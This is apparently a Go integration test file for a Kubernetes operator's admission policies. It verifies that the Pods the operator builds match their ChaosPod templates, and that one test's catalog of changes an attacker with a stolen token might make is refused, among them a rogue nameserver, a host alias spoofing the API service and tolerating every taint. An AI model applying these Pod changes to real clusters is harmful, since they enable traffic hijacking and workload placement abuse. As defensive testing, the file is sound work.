// podFieldTable is what the walk covers: each type's JSON fields and the
// decisions for them, by field name (for several types in one table, by
// "Type.field").
type podFieldTable struct {
	types     []reflect.Type
	decisions map[string]podDecision
}

func podFieldWalk() map[string]podFieldTable {
	return map[string]podFieldTable{
		"metadata":           {types: []reflect.Type{reflect.TypeFor[metav1.ObjectMeta]()}, decisions: metadataDecisions()},
		"ownerReference":     {types: []reflect.Type{reflect.TypeFor[metav1.OwnerReference]()}, decisions: ownerDecisions()},
		"spec":               {types: []reflect.Type{reflect.TypeFor[corev1.PodSpec]()}, decisions: specDecisions()},
		"toleration":         {types: []reflect.Type{reflect.TypeFor[corev1.Toleration]()}, decisions: tolerationDecisions()},
		"initContainer":      {types: []reflect.Type{reflect.TypeFor[corev1.Container]()}, decisions: containerDecisions("initContainers", "init", initOf)},
		"container":          {types: []reflect.Type{reflect.TypeFor[corev1.Container]()}, decisions: containerDecisions("containers", "main", mainOf)},
		"ephemeralContainer": {types: []reflect.Type{reflect.TypeFor[corev1.EphemeralContainer]()}, decisions: ephemeralDecisions()},
		"probe":              {types: []reflect.Type{reflect.TypeFor[corev1.Probe]()}, decisions: probeDecisions()},
		"httpGet":            {types: []reflect.Type{reflect.TypeFor[corev1.HTTPGetAction]()}, decisions: httpGetDecisions()},
		"tcpSocket":          {types: []reflect.Type{reflect.TypeFor[corev1.TCPSocketAction]()}, decisions: tcpSocketDecisions()},
		"grpc":               {types: []reflect.Type{reflect.TypeFor[corev1.GRPCAction]()}, decisions: grpcDecisions()},
		"lifecycle":          {types: []reflect.Type{reflect.TypeFor[corev1.Lifecycle]()}, decisions: lifecycleDecisions()},
		"lifecycleHandler":   {types: []reflect.Type{reflect.TypeFor[corev1.LifecycleHandler]()}, decisions: lifecycleHandlerDecisions()},
		"port":               {types: []reflect.Type{reflect.TypeFor[corev1.ContainerPort]()}, decisions: portDecisions()},
		"env": {types: []reflect.Type{reflect.TypeFor[corev1.EnvVar](), reflect.TypeFor[corev1.EnvVarSource](), reflect.TypeFor[corev1.ObjectFieldSelector](),
			reflect.TypeFor[corev1.ResourceFieldSelector](), reflect.TypeFor[corev1.ConfigMapKeySelector](), reflect.TypeFor[corev1.SecretKeySelector](),
			reflect.TypeFor[corev1.FileKeySelector]()},
			decisions: envDecisions()},
		"volumeMount": {types: []reflect.Type{reflect.TypeFor[corev1.VolumeMount]()}, decisions: mountDecisions()},
		"resources":   {types: []reflect.Type{reflect.TypeFor[corev1.ResourceRequirements]()}, decisions: resourcesDecisions()},
		"volume":      {types: []reflect.Type{reflect.TypeFor[corev1.Volume]()}, decisions: volumeDecisions()},
		"volumeSource": {types: []reflect.Type{reflect.TypeFor[corev1.SecretVolumeSource](), reflect.TypeFor[corev1.ConfigMapVolumeSource](),
			reflect.TypeFor[corev1.DownwardAPIVolumeSource](), reflect.TypeFor[corev1.DownwardAPIVolumeFile](), reflect.TypeFor[corev1.ProjectedVolumeSource](),
			reflect.TypeFor[corev1.VolumeProjection](), reflect.TypeFor[corev1.ServiceAccountTokenProjection](), reflect.TypeFor[corev1.EmptyDirVolumeSource](),
			reflect.TypeFor[corev1.ImageVolumeSource](), reflect.TypeFor[corev1.PersistentVolumeClaimTemplate]()},
			decisions: volumeSourceDecisions()},
		"claimSpec": {types: []reflect.Type{reflect.TypeFor[corev1.PersistentVolumeClaimSpec]()}, decisions: claimSpecDecisions()},
	}
}

// jsonFields are the JSON names of t's fields, those of inline structs
// included; with qualified, each is "Type.name".
func podFieldNames(t reflect.Type, qualified bool) []string {
	var out []string
	for i := range t.NumField() {
		f := t.Field(i)
		name, _, _ := strings.Cut(f.Tag.Get("json"), ",")
		switch {
		case f.Anonymous && name == "":
			for _, n := range podFieldNames(f.Type, false) {
				if qualified {
					n = t.Name() + "." + n
				}
				out = append(out, n)
			}
			continue
		case name == "" || name == "-":
			continue
		}
		if qualified {
			name = t.Name() + "." + name
		}
		out = append(out, name)
	}
	return out
}

// TestEveryPodFieldIsDecided walks the Go types: each JSON field has a
// decision, and each decision a field. A field a later Kubernetes adds
// fails here until someone decides what the operator's Pods may hold in it.
func TestEveryPodFieldIsDecided(t *testing.T) {
	t.Parallel()
	for name, table := range podFieldWalk() {
		t.Run(name, func(t *testing.T) {
			var fields []string
			for _, typ := range table.types {
				fields = append(fields, podFieldNames(typ, len(table.types) > 1)...)
			}
			require.NotEmpty(t, fields)
			var undecided, stale []string
			for _, f := range fields {
				if _, ok := table.decisions[f]; !ok {
					undecided = append(undecided, f)
				}
			}
			for f := range table.decisions {
				if !slices.Contains(fields, f) {
					stale = append(stale, f)
				}
			}
			assert.Empty(t, undecided, "fields without a decision: say what the operator's Pod may hold there")
			assert.Empty(t, stale, "decisions for fields the types do not have")
		})
	}
}

// podCheck makes a create as the operator come to what outcome says.
func podCheck(t *testing.T, want podOutcome, created *corev1.Pod, err error) {
	t.Helper()
	switch {
	case want.policy == anyPodPolicy:
		require.Error(t, err, "refused by a Pod policy")
		assert.True(t, apierrors.IsInvalid(err) || apierrors.IsForbidden(err), "%v", err)
		assert.Contains(t, err.Error(), "ValidatingAdmissionPolicy '"+anyPodPolicy, "the denial names the policy")
	case want.policy != "":
		// chaospod-templates names every field that differs, in any order.
		first, rest := want.message, ""
		if _, after, named := strings.Cut(want.message, whose("")); named {
			first, rest = whose(""), after
		}
		requireDenied(t, err, want.policy, first)
		assert.Contains(t, err.Error(), rest)
	case want.message != "":
		require.Error(t, err, "refused by the API server")
		assert.NotContains(t, err.Error(), "ValidatingAdmissionPolicy", "refused by the API server itself")
		assert.Contains(t, err.Error(), want.message)
	default:
		require.NoError(t, err, "admitted")
		if want.kept != nil {
			assert.False(t, want.kept(created), "the API server drops or overwrites the value sent")
		}
	}
}

// createAsOperator creates pod as the operator, in a server-side dry run.
func (c confined) createAsOperator(pod *corev1.Pod) (*corev1.Pod, error) {
	return c.operator.CoreV1().Pods(pod.Namespace).Create(context.Background(), pod, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
}

// createChaosPodFrom creates a ChaosPod whose template is given as the
// API server stores it, values the Go types cannot hold included.
func (c confined) createChaosPodFrom(t *testing.T, ns, name string, template map[string]any) *chaosv1.ChaosPod {
	t.Helper()
	obj := &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": chaosv1.SchemeGroupVersion.String(), "kind": chaosv1.Kind,
		"metadata": map[string]any{"name": name, "namespace": ns},
		"spec":     map[string]any{"template": template},
	}}
	created, err := c.dyn.Resource(chaosv1.GroupVersionResource).Namespace(ns).Create(context.Background(), obj, metav1.CreateOptions{})
	require.NoError(t, err)
	out := new(chaosv1.ChaosPod)
	require.NoError(t, runtime.DefaultUnstructuredConverter.FromUnstructured(created.Object, out))
	return out
}

// startFieldsControlPlane is a control plane with the default admission
// plugins on (the ServiceAccount plugin among them), config/default's
// CRD, RBAC and policies, the ServiceAccounts and RuntimeClass the
// decisions name, in namespace ns and an empty one, elsewhere.
func startFieldsControlPlane(t *testing.T, ns string) confined {
	t.Helper()
	cp := controlplane.StartT(t, controlplane.Options{APIServerFlags: []string{"--disable-admission-plugins="}})
	ctx := context.Background()
	admin := cp.Clientset()
	for _, n := range []string{ns, "elsewhere"} {
		require.NoError(t, cp.EnsureNamespace(ctx, n))
	}
	for _, sa := range []string{ns + "/default", ns + "/runner", ns + "/powerful", "elsewhere/runner"} {
		namespace, name, _ := strings.Cut(sa, "/")
		_, err := admin.CoreV1().ServiceAccounts(namespace).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{})
		require.NoError(t, err)
	}
	_, err := admin.NodeV1().RuntimeClasses().Create(ctx, &nodev1.RuntimeClass{ObjectMeta: metav1.ObjectMeta{Name: "sandbox"}, Handler: "runsc"}, metav1.CreateOptions{})
	require.NoError(t, err)
	return installConfined(t, cp)
}

// waitEnforcing waits until both Pod policies refuse what they refuse and
// the Pod the operator builds from of passes: the API server loads new
// policies, and resolves the ChaosPod kind for the params, some seconds
// after they are installed.
func (c confined) waitEnforcing(t *testing.T, of *chaosv1.ChaosPod) {
	t.Helper()
	// A Pod named like no ChaosPod, without owner: chaospod-templates has
	// no param to compare it with, and only chaospod-pods refuses it.
	unowned := chaospod.PodFor(of)
	unowned.Name, unowned.Labels[chaospod.PodLabel], unowned.OwnerReferences = "unowned", "unowned", nil
	var last string
	if !assert.Eventually(t, func() bool {
		_, errPods := c.createAsOperator(unowned)
		seen := c.sees(of)
		_, err := c.createAsOperator(chaospod.PodFor(of))
		last = fmt.Sprintf("a stray Pod without owner: %v; chaospod-templates compares: %t; the Pod as built: %v", errPods, seen, err)
		return errPods != nil && strings.Contains(errPods.Error(), chaosPodPolicy) && seen && err == nil
	}, 90*time.Second, 100*time.Millisecond, "the policies enforce, and the operator's Pod passes once the API server knows ChaosPods") {
		t.Fatalf("last: %s", last)
	}
}

// waitSeen waits until chaospod-templates has of among its params: until
// then no param is the Pod's ChaosPod, and every Pod of it passes.
func (c confined) waitSeen(t *testing.T, of *chaosv1.ChaosPod) {
	t.Helper()
	require.Eventually(t, func() bool { return c.sees(of) }, 30*time.Second, 50*time.Millisecond, "chaospod-templates reads ChaosPod %s", of.Name)
}

// sees tells whether chaospod-templates compares a Pod of ChaosPod of with
// it: a Pod of another image is refused, and not for want of params.
func (c confined) sees(of *chaosv1.ChaosPod) bool {
	unlike := chaospod.PodFor(of)
	unlike.Spec.Containers[0].Image = "registry.example/evil:1"
	_, err := c.createAsOperator(unlike)
	return err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+templatePolicy+"'") && !strings.Contains(err.Error(), noParamsFound)
}

// Every decision of the walk, made against the real API server with the
// ServiceAccount admission plugin on, as the operator's ServiceAccount:
// the Pod PodFor builds from a ChaosPod's template, changed in one field,
// comes to what the decision says.
func TestOperatorPodsDifferFromTheirTemplatesOnlyAsListed(t *testing.T) {
	t.Parallel()
	const ns = "fields"
	c := startFieldsControlPlane(t, ns)
	base := c.createChaosPod(t, ns, "fields", fieldsTemplate())
	c.waitEnforcing(t, base)

	t.Run("admitted", func(t *testing.T) {
		c.checkAdmittedShapes(t, ns)
	})
	t.Run("attacks", func(t *testing.T) {
		c.checkAttacks(t, base)
	})
	t.Run("priority class", func(t *testing.T) {
		_, err := c.admin.SchedulingV1().PriorityClasses().Create(context.Background(), &schedulingv1.PriorityClass{
			ObjectMeta: metav1.ObjectMeta{Name: "chaos"}, Value: 1000, PreemptionPolicy: ptr.To(corev1.PreemptNever)}, metav1.CreateOptions{})
		require.NoError(t, err)
		tmpl := fieldsTemplate()
		tmpl.Spec.PriorityClassName = "chaos"
		classed := c.createChaosPod(t, ns, "classed", tmpl)
		c.waitSeen(t, classed)
		// The Priority plugin writes the class's priority and preemption
		// policy; they are admitted.
		created, err := c.createAsOperator(chaospod.PodFor(classed))
		require.NoError(t, err)
		assert.Equal(t, ptr.To[int32](1000), created.Spec.Priority)
		assert.Equal(t, ptr.To(corev1.PreemptNever), created.Spec.PreemptionPolicy)
		other := chaospod.PodFor(classed)
		other.Spec.PriorityClassName = "system-cluster-critical"
		_, err = c.createAsOperator(other)
		requireDenied(t, err, templatePolicy, whose("spec.priorityClassName"))
	})
	t.Run("LimitRanger", func(t *testing.T) {
		c.checkLimitRanger(t)
	})

	n := 0
	for table, w := range podFieldWalk() {
		for field, d := range w.decisions {
			n++
			name := fmt.Sprintf("fields-%d", n)
			t.Run(table+"/"+field, func(t *testing.T) {
				t.Parallel()
				of := base
				if d.template != nil {
					tmpl := fieldsTemplate()
					d.template(&tmpl)
					of = c.createChaosPod(t, ns, name, tmpl)
					c.waitSeen(t, of)
				}
				for _, s := range d.steps {
					pod := chaospod.PodFor(of)
					s.change(pod)
					created, err := c.createAsOperator(pod)
					if s.stored {
						created, err = c.operator.CoreV1().Pods(pod.Namespace).Create(context.Background(), pod, metav1.CreateOptions{})
						if err == nil {
							require.NoError(t, c.admin.CoreV1().Pods(pod.Namespace).Delete(context.Background(), pod.Name, metav1.DeleteOptions{}))
						}
					}
					podCheck(t, s.podOutcome, created, err)
				}
			})
		}
	}
}

// spelledTemplate is fieldsTemplate with every default the API server
// fills in written out.
func spelledTemplate() corev1.PodTemplateSpec {
	t := fieldsTemplate()
	s := &t.Spec
	s.RestartPolicy, s.DNSPolicy, s.SchedulerName = corev1.RestartPolicyAlways, corev1.DNSClusterFirst, corev1.DefaultSchedulerName
	s.TerminationGracePeriodSeconds, s.EnableServiceLinks = ptr.To[int64](30), ptr.To(true)
	s.DeprecatedServiceAccount = s.ServiceAccountName
	s.Priority, s.PreemptionPolicy = ptr.To[int32](0), ptr.To(corev1.PreemptLowerPriority)
	s.Tolerations = append(s.Tolerations, defaultTolerations()...)
	for _, c := range append(containersOf(s), (*corev1.Container)(nil)) {
		if c == nil {
			continue
		}
		c.TerminationMessagePath, c.TerminationMessagePolicy = corev1.TerminationMessagePathDefault, corev1.TerminationMessageReadFile
		c.ImagePullPolicy = corev1.PullIfNotPresent
		for i := range c.Ports {
			c.Ports[i].Protocol = corev1.ProtocolTCP
		}
		for _, e := range c.Env {
			if e.ValueFrom != nil && e.ValueFrom.FieldRef != nil {
				e.ValueFrom.FieldRef.APIVersion = "v1"
			}
			if e.ValueFrom != nil && e.ValueFrom.FileKeyRef != nil {
				e.ValueFrom.FileKeyRef.Optional = ptr.To(false)
			}
		}
		if c.Resources.Limits != nil {
			c.Resources.Requests = c.Resources.Limits.DeepCopy()
		}
		for _, p := range []*corev1.Probe{c.LivenessProbe, c.ReadinessProbe, c.StartupProbe} {
			if p == nil {
				continue
			}
			p.TimeoutSeconds, p.PeriodSeconds, p.SuccessThreshold, p.FailureThreshold = 1, 10, 1, 3
			if p.HTTPGet != nil {
				p.HTTPGet.Scheme = corev1.URISchemeHTTP
			}
			if p.GRPC != nil {
				p.GRPC.Service = ptr.To("")
			}
		}
	}
	for i := range s.Volumes {
		v := &s.Volumes[i]
		switch {
		case v.Secret != nil:
			v.Secret.DefaultMode = ptr.To[int32](0o644)
		case v.ConfigMap != nil:
			v.ConfigMap.DefaultMode = ptr.To[int32](0o644)
		case v.DownwardAPI != nil:
			v.DownwardAPI.DefaultMode = ptr.To[int32](0o644)
			for _, item := range v.DownwardAPI.Items {
				if item.FieldRef != nil {
					item.FieldRef.APIVersion = "v1"
				}
			}
		case v.Projected != nil:
			v.Projected.DefaultMode = ptr.To[int32](0o644)
			for _, p := range v.Projected.Sources {
				if p.ServiceAccountToken != nil {
					p.ServiceAccountToken.ExpirationSeconds = ptr.To[int64](3600)
				}
				if p.DownwardAPI != nil {
					for _, item := range p.DownwardAPI.Items {
						if item.FieldRef != nil {
							item.FieldRef.APIVersion = "v1"
						}
					}
				}
			}
		case v.Ephemeral != nil:
			v.Ephemeral.VolumeClaimTemplate.Spec.VolumeMode = ptr.To(corev1.PersistentVolumeFilesystem)
		case v.Image != nil:
			v.Image.PullPolicy = corev1.PullIfNotPresent
		}
	}
	return t
}

func containersOf(s *corev1.PodSpec) []*corev1.Container {
	var out []*corev1.Container
	for i := range s.InitContainers {
		out = append(out, &s.InitContainers[i])
	}
	for i := range s.Containers {
		out = append(out, &s.Containers[i])
	}
	return out
}

// spellZeros writes into obj, the unstructured form of a value of type
// typ, the zero of each field the Go round trip drops when zero (not a
// pointer, omitempty), at every level of the walk, as a template written
// by hand may.
func spellZeros(obj map[string]any, typ reflect.Type, levels map[reflect.Type]bool) {
	for i := range typ.NumField() {
		f := typ.Field(i)
		name, opts, _ := strings.Cut(f.Tag.Get("json"), ",")
		if f.Anonymous && name == "" {
			spellZeros(obj, f.Type, levels)
			continue
		}
		value, present := obj[name]
		ft := f.Type
		if ft.Kind() == reflect.Pointer {
			ft = ft.Elem()
		}
		switch {
		case present && ft.Kind() == reflect.Struct && levels[ft]:
			spellZeros(value.(map[string]any), ft, levels)
		case present && ft.Kind() == reflect.Slice && levels[ft.Elem()]:
			for _, e := range value.([]any) {
				spellZeros(e.(map[string]any), ft.Elem(), levels)
			}
		case present || f.Type.Kind() == reflect.Pointer || !strings.Contains(opts, "omitempty"):
		case ft.Kind() == reflect.String:
			obj[name] = ""
		case ft.Kind() == reflect.Bool:
			obj[name] = false
		case ft.Kind() >= reflect.Int && ft.Kind() <= reflect.Int64:
			obj[name] = int64(0)
		case ft.Kind() == reflect.Slice:
			obj[name] = []any{}
		case ft.Kind() == reflect.Map:
			obj[name] = map[string]any{}
		case ft.Kind() == reflect.Struct && levels[ft]:
			obj[name] = map[string]any{}
		}
	}
}

// checkAdmittedShapes: the Pod the operator builds is admitted as a real
// create (with the ServiceAccount plugin's token volume and mounts), and
// so are those of a template that writes out every default, of one that
// writes out the zero values the Go types drop, and of one that sets
// nothing optional.
func (c confined) checkAdmittedShapes(t *testing.T, ns string) {
	ctx := context.Background()
	admitted := func(t *testing.T, of *chaosv1.ChaosPod) *corev1.Pod {
		t.Helper()
		c.waitSeen(t, of)
		created, err := c.createAsOperator(chaospod.PodFor(of))
		require.NoError(t, err)
		return created
	}
	t.Run("as built, stored", func(t *testing.T) {
		stored := c.createChaosPod(t, ns, "stored", fieldsTemplate())
		c.waitSeen(t, stored)
		created, err := c.operator.CoreV1().Pods(ns).Create(ctx, chaospod.PodFor(stored), metav1.CreateOptions{})
		require.NoError(t, err)
		t.Cleanup(func() {
			_ = c.admin.CoreV1().Pods(ns).Delete(context.Background(), "stored", metav1.DeleteOptions{GracePeriodSeconds: ptr.To[int64](0)})
		})
		token := created.Spec.Volumes[len(created.Spec.Volumes)-1].Name
		assert.True(t, strings.HasPrefix(token, "kube-api-access-"), "the ServiceAccount plugin added its token volume")
		for _, ctr := range containersOf(&created.Spec) {
			assert.Equal(t, token, ctr.VolumeMounts[len(ctr.VolumeMounts)-1].Name, "and mounted it into %s", ctr.Name)
		}
	})
	t.Run("defaults written out", func(t *testing.T) {
		admitted(t, c.createChaosPod(t, ns, "spelled", spelledTemplate()))
	})
	t.Run("zero values written out", func(t *testing.T) {
		levels := map[reflect.Type]bool{reflect.TypeFor[corev1.PodSpec](): true}
		for _, table := range podFieldWalk() {
			for _, typ := range table.types {
				levels[typ] = true
			}
		}
		delete(levels, reflect.TypeFor[metav1.ObjectMeta]())
		tmpl := fieldsTemplate()
		obj, err := runtime.DefaultUnstructuredConverter.ToUnstructured(&tmpl)
		require.NoError(t, err)
		spellZeros(obj["spec"].(map[string]any), reflect.TypeFor[corev1.PodSpec](), levels)
		require.Equal(t, false, obj["spec"].(map[string]any)["hostNetwork"], "zeros are written out")
		admitted(t, c.createChaosPodFrom(t, ns, "zeros", obj))
	})
	t.Run("nothing optional", func(t *testing.T) {
		bare := corev1.PodTemplateSpec{Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "busybox"}}}}
		created := admitted(t, c.createChaosPod(t, ns, "bare", bare))
		assert.Equal(t, corev1.PullAlways, created.Spec.Containers[0].ImagePullPolicy, "an image without a tag is pulled always")
		assert.Equal(t, "default", created.Spec.ServiceAccountName)
	})
}

// checkAttacks: the changes a stolen token of the operator would make to
// one of its Pods, each refused naming the field.
func (c confined) checkAttacks(t *testing.T, base *chaosv1.ChaosPod) {
	for name, a := range map[string]struct {
		change func(p *corev1.Pod)
		field  string
	}{
		"a finalizer": {func(p *corev1.Pod) { p.Finalizers = []string{"example.com/hold"} }, "metadata.finalizers"},
		"its own name server": {func(p *corev1.Pod) {
			p.Spec.DNSPolicy, p.Spec.DNSConfig = corev1.DNSNone, &corev1.PodDNSConfig{Nameservers: []string{"10.0.0.53"}}
		}, "spec.dnsConfig"},
		"host aliases": {func(p *corev1.Pod) {
			p.Spec.HostAliases = []corev1.HostAlias{{IP: "10.0.0.1", Hostnames: []string{"kubernetes.default.svc"}}}
		}, "spec.hostAliases"},
		"a node selector": {func(p *corev1.Pod) { p.Spec.NodeSelector = map[string]string{"kubernetes.io/hostname": "node-1"} }, "spec.nodeSelector"},
		"a toleration of every taint": {func(p *corev1.Pod) {
			p.Spec.Tolerations = append(p.Spec.Tolerations, corev1.Toleration{Operator: corev1.TolerationOpExists})
		}, "spec.tolerations"},
		"a day to terminate":                    {func(p *corev1.Pod) { p.Spec.TerminationGracePeriodSeconds = ptr.To[int64](86400) }, "spec.terminationGracePeriodSeconds"},
		"a label of another Service's selector": {func(p *corev1.Pod) { p.Labels["app.kubernetes.io/name"] = "billing" }, "metadata.labels"},
		"an annotation":                         {func(p *corev1.Pod) { p.Annotations = map[string]string{"prometheus.io/scrape": "true"} }, "metadata.annotations"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			pod := chaospod.PodFor(base)
			a.change(pod)
			_, err := c.createAsOperator(pod)
			requireDenied(t, err, templatePolicy, whose(""))
			assert.Contains(t, err.Error(), a.field)
		})
	}
}

// checkLimitRanger: the resources LimitRanger fills in are not allowed: in
// a namespace whose LimitRange has defaults, a template without resources
// makes the operator's Pod refused (LimitRanger's annotation is the first
// difference named), and one that writes them out passes.
func (c confined) checkLimitRanger(t *testing.T) {
	ctx := context.Background()
	const ns = "limited"
	require.NoError(t, c.cp.EnsureNamespace(ctx, ns))
	_, err := c.admin.CoreV1().ServiceAccounts(ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "default"}}, metav1.CreateOptions{})
	require.NoError(t, err)
	limits := corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("200m"), corev1.ResourceMemory: resource.MustParse("128Mi")}
	_, err = c.admin.CoreV1().LimitRanges(ns).Create(ctx, &corev1.LimitRange{ObjectMeta: metav1.ObjectMeta{Name: "defaults"},
		Spec: corev1.LimitRangeSpec{Limits: []corev1.LimitRangeItem{{Type: corev1.LimitTypeContainer, Default: limits, DefaultRequest: limits}}}}, metav1.CreateOptions{})
	require.NoError(t, err)
	bare := corev1.PodTemplateSpec{Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "busybox:1.36"}}}}
	unlimited := c.createChaosPod(t, ns, "unlimited", bare)
	bare.Spec.Containers[0].Resources = corev1.ResourceRequirements{Limits: limits, Requests: limits}
	limited := c.createChaosPod(t, ns, "limited", bare)
	c.waitSeen(t, unlimited)
	c.waitSeen(t, limited)
	_, err = c.createAsOperator(chaospod.PodFor(limited))
	require.NoError(t, err, "a template with its resources written out passes")
	created, err := c.admin.CoreV1().Pods(ns).Create(ctx, chaospod.PodFor(unlimited), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
	require.NoError(t, err)
	require.Equal(t, limits, created.Spec.Containers[0].Resources.Limits, "LimitRanger fills in the defaults")
	_, err = c.createAsOperator(chaospod.PodFor(unlimited))
	requireDenied(t, err, templatePolicy, whose("metadata.annotations"))
}
